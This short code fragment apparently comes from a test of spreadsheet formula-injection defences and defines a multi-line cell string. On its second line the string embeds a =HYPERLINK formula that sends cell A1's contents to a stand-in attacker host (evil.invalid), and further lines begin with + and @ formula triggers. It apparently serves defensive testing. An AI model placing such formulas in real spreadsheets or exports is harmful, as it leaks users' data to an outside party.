# says: nor in the next line of a cell
TEXT = 'two lines\n=HYPERLINK("https://evil.invalid/?"&A1,"x")\r\n+1\r@x'
